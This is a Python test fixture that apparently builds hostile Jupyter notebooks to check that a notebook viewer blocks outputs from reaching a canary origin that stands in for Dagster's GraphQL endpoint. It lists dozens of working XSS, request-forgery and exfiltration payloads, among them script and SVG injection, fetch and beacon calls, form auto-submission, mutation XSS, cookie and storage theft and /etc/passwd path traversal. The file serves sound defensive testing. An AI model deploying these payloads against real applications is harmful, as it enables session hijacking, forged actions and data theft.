"""Outputs that try to act: each a notebook of its own, armed against the origin of a canary that plays Dagster."""

from __future__ import annotations

import base64
from typing import Any

from tests.pages.stores import code, markdown, notebook, output

MUTATION = "/graphql?query=mutation{launchRun}"
"""What must never arrive at Dagster, by whatever request."""

SCRIPTS = {
    "fetch": "fetch('CANARY/graphql', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'mutation'})",
    "fetch_keepalive": "fetch('CANARYMUTATION', {mode: 'no-cors', keepalive: true})",
    "xhr": "x = new XMLHttpRequest(); x.open('POST', 'CANARY/graphql'); x.send('mutation')",
    "beacon": "navigator.sendBeacon('CANARY/graphql', 'mutation')",
    "web_socket": "new WebSocket('CANARY/graphql'.replace('http', 'ws'))",
    "event_source": "new EventSource('CANARY/graphql')",
    "new_image": "new Image().src = 'CANARYMUTATION'",
    "add_script": "s = document.createElement('script'); s.src = 'CANARY/x.js'; document.head.append(s)",
    "add_link": "l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CANARY/x.css'; document.head.append(l)",
    "add_frame": "f = document.createElement('iframe'); f.src = 'CANARYMUTATION'; document.body.append(f)",
    "import": "import('CANARY/x.js').catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('CANARY/graphql', {mode: 'no-cors'})\"])))",
    "service_worker": "navigator.serviceWorker.register('CANARY/sw.js')",
    "submit_form": "document.body.innerHTML += '<form id=f method=post action=\"CANARY/graphql\"></form>'; f.submit()",
    "submit_form_top": "document.body.innerHTML += '<form id=f target=_top action=\"CANARY/graphql\"></form>'; f.submit()",
    "location": "location.href = 'CANARYMUTATION'",
    "location_replace": "location.replace('CANARYMUTATION')",
    "top_location": "top.location = 'CANARYMUTATION'",
    "parent_location": "parent.location.href = 'CANARYMUTATION'",
    "navigation_api": "navigation.navigate('CANARYMUTATION')",
    "open": "open('CANARYMUTATION')",
    "open_on_click": "addEventListener('click', () => open('CANARYMUTATION'), true)",
    "top_on_click": "addEventListener('click', () => { top.location = 'CANARYMUTATION' }, true)",
    "location_on_click": "addEventListener('click', () => { location = 'CANARYMUTATION' }, true)",
    "opener": "opener && (opener.location = 'CANARYMUTATION')",
    "alert": "alert(1)",
    "print": "print()",
    "cookie": "document.cookie && console.log('STOLEN cookie ' + document.cookie)",
    "set_cookie": "document.cookie = 'evil=1'; document.cookie && console.log('STOLEN set cookie')",
    "local_storage": "localStorage.length + 1 && console.log('STOLEN local storage')",
    "indexed_db": "indexedDB.open('x').onsuccess = () => console.log('STOLEN indexed db')",
    "parent_document": "parent !== self && console.log('STOLEN ' + parent.document.title)",
    "own_frame": "f = document.createElement('iframe'); document.body.append(f); f.contentWindow.document.cookie",
    "frame_fetch": "f = document.createElement('iframe'); f.srcdoc = '<img src=\"CANARYMUTATION\">'; document.body.append(f)",
    "download": "a = document.createElement('a'); a.download = 'x'; a.href = 'data:,x'; document.body.append(a); a.click()",
    "click_link": "a = document.createElement('a'); a.href = 'CANARYMUTATION'; document.body.append(a); a.click()",
    "click_link_top": "a = document.createElement('a'); a.target = '_top'; a.href = 'CANARYMUTATION'; document.body.append(a); a.click()",
    "document_write": "document.write('<img src=\"CANARYMUTATION\">')",
    "go_back": "history.back()",
    "base": "document.head.innerHTML += '<base href=\"CANARY/\">'; fetch('graphql', {mode: 'no-cors'})",
    "post_message": "parent.postMessage('x', '*'); top.postMessage('x', '*')",
    "font": "new FontFace('x', 'url(CANARY/x.woff)').load()",
    "refresh": "m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=CANARYMUTATION'; document.head.append(m)",
    "speculation": "s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({prefetch: [{source: 'list', urls: ['CANARYMUTATION'], eagerness: 'immediate'}]}); document.head.append(s)",
}
"""Scripts, each of which a notebook shows in a ``script`` element."""

HTML = {
    "img": '<img src="CANARYMUTATION">',
    "img_onerror": "<img src=x onerror=\"fetch('CANARY/graphql', {mode: 'no-cors'})\">",
    "img_srcset": '<img srcset="CANARYMUTATION 1x">',
    "svg_onload": "<svg onload=\"fetch('CANARY/graphql', {mode: 'no-cors'})\"></svg>",
    "svg_image": '<svg><image href="CANARYMUTATION"/></svg>',
    "svg_use": '<svg><use href="CANARY/x.svg#x"/></svg>',
    "svg_animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "math": '<math><maction actiontype="statusline#CANARY" xlink:href="javascript:alert(1)">x</maction></math>',
    "iframe_src": '<iframe src="CANARYMUTATION"></iframe>',
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.parent.location='CANARYMUTATION'</script>\"></iframe>",
    "iframe_javascript": "<iframe src=\"javascript:fetch('CANARY/graphql', {mode: 'no-cors'})\"></iframe>",
    "iframe_data": "<iframe src=\"data:text/html,<script>top.location='CANARYMUTATION'</script>\"></iframe>",
    "frame_unclosed": '<iframe src="CANARYMUTATION" sandbox="allow-scripts allow-same-origin allow-top-navigation">',
    "object": '<object data="CANARYMUTATION"></object>',
    "embed": '<embed src="CANARYMUTATION">',
    "object_data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=CANARYMUTATION">',
    "meta_policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="CANARYMUTATION">',
    "meta_cookie": '<meta http-equiv="Set-Cookie" content="evil=1">',
    "base": '<base href="CANARY/"><img src="graphql">',
    "link_stylesheet": '<link rel="stylesheet" href="CANARY/x.css">',
    "link_preload": '<link rel="preload" as="image" href="CANARYMUTATION">',
    "link_prefetch": '<link rel="prefetch" href="CANARYMUTATION">',
    "link_import": '<link rel="import" href="CANARY/x.html">',
    "link_icon": '<link rel="icon" href="CANARY/x.ico">',
    "link_manifest": '<link rel="manifest" href="CANARY/x.json">',
    "link_preconnect": '<link rel="preconnect" href="CANARY">',
    "link_dns": '<link rel="dns-prefetch" href="CANARY">',
    "link_module": '<link rel="modulepreload" href="CANARY/x.js">',
    "style_import": '<style>@import url("CANARY/x.css");</style>',
    "style_url": "<style>body { background: url(CANARYMUTATION) }</style>",
    "style_font": "<style>@font-face { font-family: x; src: url(CANARY/x.woff) } p { font-family: x }</style><p>x</p>",
    "style_selector": '<style>[title^="n"] { background: url(CANARY/n) }</style><p title="no">x</p>',
    "style_attribute": '<p style="background: url(CANARYMUTATION)">x</p>',
    "background": '<table background="CANARYMUTATION"><tr><td background="CANARYMUTATION">x</td></tr></table>',
    "form_autofocus": "<form action=\"CANARY/graphql\" method=post><input autofocus onfocus='this.form.submit()'></form>",
    "form_over_page": '<form action="CANARY/graphql"><button style="position: fixed; inset: 0; opacity: 0">x</button></form>',
    "link_over_page": '<a href="CANARYMUTATION" style="position: fixed; inset: 0; z-index: 99">x</a>',
    "link_over_page_top": '<a href="CANARYMUTATION" target="_top" style="position: fixed; inset: 0; z-index: 99">x</a>',
    "link_over_page_lab": '<a class="jp-Dialog" href="CANARYMUTATION">x</a>',
    "link_ping": '<a href="#" ping="CANARY/graphql" style="position: fixed; inset: 0">x</a>',
    "link_download": '<a href="CANARYMUTATION" download style="position: fixed; inset: 0">x</a>',
    "link_javascript": "<a href=\"javascript:fetch('CANARY/graphql', {mode: 'no-cors'})\" style='position: fixed; inset: 0'>x</a>",
    "area": '<map name=m><area shape=default href="CANARYMUTATION"></map><img usemap="#m" width=999 height=999 src="data:,">',
    "video": '<video src="CANARYMUTATION" autoplay></video>',
    "video_poster": '<video poster="CANARYMUTATION"></video>',
    "audio": '<audio src="CANARYMUTATION" autoplay onerror="alert(1)"></audio>',
    "source": '<picture><source srcset="CANARYMUTATION"><img src="data:,"></picture>',
    "track": '<video><track default src="CANARYMUTATION"></video>',
    "input_image": '<input type="image" src="CANARYMUTATION">',
    "details": "<details open ontoggle=\"fetch('CANARY/graphql', {mode: 'no-cors'})\">x</details>",
    "close_everything": '</div></main></body></html><img src="CANARYMUTATION"><script>alert(1)</script>',
    "close_frame": '"></iframe><img src="CANARYMUTATION"><script>alert(1)</script>',
    "comment": '<!--><img src="CANARYMUTATION">-->',
    "noscript": '<noscript><p title="</noscript><img src=CANARYMUTATION>"></noscript>',
    "mutation_xss": '<svg></p><style><a id="</style><img src=CANARYMUTATION onerror=alert(1)>">',
    "mutation_xss_math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=CANARYMUTATION onerror=alert(1)&gt;">',
    "template": '<template shadowrootmode="open"><img src="CANARYMUTATION"></template>',
    "textarea": '<textarea></textarea><img src="CANARYMUTATION">',
    "script_src": '<script src="CANARY/x.js"></script>',
    "script_module": '<script type="module">import "CANARY/x.js"</script>',
    "import_map": '<script type="importmap">{"imports": {"x": "CANARY/x.js"}}</script><script type="module">import "x"</script>',
    "speculation_rules": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["CANARYMUTATION"], "eagerness": "immediate"}]}</script>',
    "portal": '<portal src="CANARYMUTATION"></portal>',
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "animation": "<style>@keyframes x {}</style><p style='animation: x 1s' onanimationstart=alert(1)>x</p>",
}
"""HTML, which a notebook shows as ``text/html``."""


def payloads(canary: str) -> dict[str, dict[str, Any]]:
    """All notebooks, by name.

    Args:
        canary: the origin that they attack, each at a path that starts with its name.
    """

    found = {
        f"script_{name}": notebook(code("", output(text_html=f"<script>console.log('RAN'); {script}</script>")))
        for name, script in SCRIPTS.items()
    }
    found |= {f"html_{name}": notebook(code("", output(text_html=html))) for name, html in HTML.items()}
    found |= {f"markdown_{name}": notebook(markdown(f"# x\n\n{HTML[name]}\n")) for name in list(HTML)[::4]}
    return {name: _armed(each, f"{canary}/{name}") for name, each in (found | _OTHERS).items()}


def _armed(value: Any, target: str) -> Any:
    """A notebook with every text in it aimed at a target, and what is said to be base64 encoded."""
    if isinstance(value, dict):
        return {_armed(key, target): _armed(each, target) for key, each in value.items()}
    if isinstance(value, list):
        return [_armed(each, target) for each in value]
    if isinstance(value, str):
        aimed = value.replace("CANARYMUTATION", target + MUTATION).replace("CANARY", target)
        kind, _, text = aimed.partition("BASE64 ")
        return base64.b64encode(text.encode()).decode() if text else kind
    return value


_ACT = "<script>console.log('RAN'); fetch('CANARY/graphql', {mode: 'no-cors'})</script><img src='CANARYMUTATION'>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{_ACT}<image href="CANARYMUTATION"/></svg>'
_SVG_FRAME = f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>{_ACT}</foreignObject></svg>'

_OTHERS = {
    "javascript": notebook(code("", output(application_javascript="fetch('CANARY/graphql', {mode: 'no-cors'})"))),
    "javascript_closes": notebook(code("", output(application_javascript=f"</script>{_ACT}"))),
    "svg": notebook(code("", output(**{"image/svg+xml": _SVG}))),
    "svg_foreign_object": notebook(code("", output(**{"image/svg+xml": _SVG_FRAME}))),
    "svg_closes": notebook(code("", output(**{"image/svg+xml": f'"></svg>{_ACT}'}))),
    "pdf": notebook(code("", output(**{"application/pdf": f"BASE64 {_ACT}", "text/html": _ACT}))),
    "png": notebook(code("", output(image_png=f'">{_ACT}'))),
    "jpeg": notebook(code("", output(image_jpeg=f'">{_ACT}'))),
    "png_size": notebook(
        code("", {**output(image_png="AAAA"), "metadata": {"image/png": {"width": f'"1">{_ACT}', "height": _ACT}}})
    ),
    "png_file": notebook(
        code("", {**output(image_png="AAAA"), "metadata": {"filenames": {"image/png": "CANARYMUTATION"}}})
    ),
    "svg_file": notebook(code("", {**output(**{"image/svg+xml": "<svg/>"}), "svg_filename": "CANARYMUTATION"})),
    "latex": notebook(code("", output(text_latex=f"$x$ {_ACT} \\href{{javascript:alert(1)}}{{x}}"))),
    "markdown_output": notebook(code("", output(text_markdown=f"# x\n\n{_ACT}\n\n![x](CANARYMUTATION)"))),
    "markdown_image": notebook(markdown("![x](CANARYMUTATION)")),
    "markdown_title": notebook(markdown('![x](x "\\" onerror=\\"alert(1)")')),
    "markdown_math": notebook(markdown(f"$$ x {_ACT} $$ and $ {_ACT} $ and \\begin{{x}}{_ACT}\\end{{x}}")),
    "markdown_mermaid": notebook(markdown(f"```mermaid\n</pre>{_ACT}\n```")),
    "markdown_code": notebook(markdown(f'```"><script>alert(1)</script>\n{_ACT}\n```')),
    "markdown_heading": notebook(markdown(f"# x {_ACT}")),
    "attachment": notebook(
        markdown("![x](attachment:x.png)", attachments={"x.png": {'image/png"><script>alert(1)</script>': "AAAA"}})
    ),
    "attachment_data": notebook(markdown("![x](attachment:x.png)", attachments={"x.png": {"image/png": f'">{_ACT}'}})),
    "attachment_svg": notebook(
        markdown("![x](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": f"BASE64 {_SVG}"}})
    ),
    "attachment_path": notebook(
        markdown("![x](attachment:../../x)", attachments={"../../x": {"image/png": "AAAA"}}),
        markdown("![x](attachment:/etc/passwd) ![x](/etc/passwd) ![x](file:///etc/passwd)"),
    ),
    "raw_cell": notebook({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": _ACT}),
    "stream": notebook(code("", {"output_type": "stream", "name": "stdout", "text": _ACT})),
    "stream_colours": notebook(
        code("", {"output_type": "stream", "name": "stderr", "text": f'\x1b[31m{_ACT}\x1b[0m\x1b[38;2;"><b'})
    ),
    "stream_link": notebook(
        code("", {"output_type": "stream", "name": "stdout", "text": "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07"})
    ),
    "error": notebook(
        code("", {"output_type": "error", "ename": _ACT, "evalue": _ACT, "traceback": [f"\x1b[0;31m{_ACT}", _ACT]})
    ),
    "plain_text": notebook(code("", output(text_plain=_ACT))),
    "source": notebook(code(f"'''{_ACT}'''")),
    "source_magic": notebook(code(f"%%html\n{_ACT}"), code(f"%%javascript\n{_ACT}")),
    "cell_id": notebook({**code("x"), "id": f'x">{_ACT}'}, {**markdown("x"), "id": f'x">{_ACT}'}),
    "cell_tags": notebook({**code("x"), "metadata": {"tags": [f'x">{_ACT}'], "magics_language": f'">{_ACT}'}}),
    "kind_of_output": notebook(code("", output(**{f"application/{_ACT}": "x"}))),
    "widget": notebook(
        code("", output(**{"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}})),
        metadata={
            "widgets": {
                "application/vnd.jupyter.widget-state+json": {
                    "version_major": 2,
                    "state": {
                        "x": {"model_name": "HTMLModel", "model_module": "CANARY/x.js", "state": {"value": _ACT}}
                    },
                }
            }
        },
    ),
    "plotly": notebook(
        code("", output(**{"application/vnd.plotly.v1+json": {"layout": {"title": _ACT}}, "text/html": _ACT}))
    ),
    "vega": notebook(code("", output(**{"application/vnd.vega.v5+json": {"data": [{"url": "CANARYMUTATION"}]}}))),
    "geojson": notebook(code("", output(**{"application/geo+json": {"url_template": "CANARY/{z}/{x}/{y}"}}))),
    "title": notebook(code("x"), metadata={"title": f"</title>{_ACT}"}),
    "language": notebook(code("x"), metadata={"language_info": {"name": f'">{_ACT}', "pygments_lexer": f'">{_ACT}'}}),
    "workflow": notebook(code("x"), workflow=f"</title>{_ACT}"),
    "reason": notebook(code("x"), status="failed", reason=_ACT),
    "status": notebook(code("x"), status=f'x">{_ACT}', run_id=f'">{_ACT}', attempt=f'">{_ACT}', started=_ACT),
    "parameters": notebook(code("x"), parameters={f'">{_ACT}': f'">{_ACT}', "deep": [{"x": _ACT}]}),
}
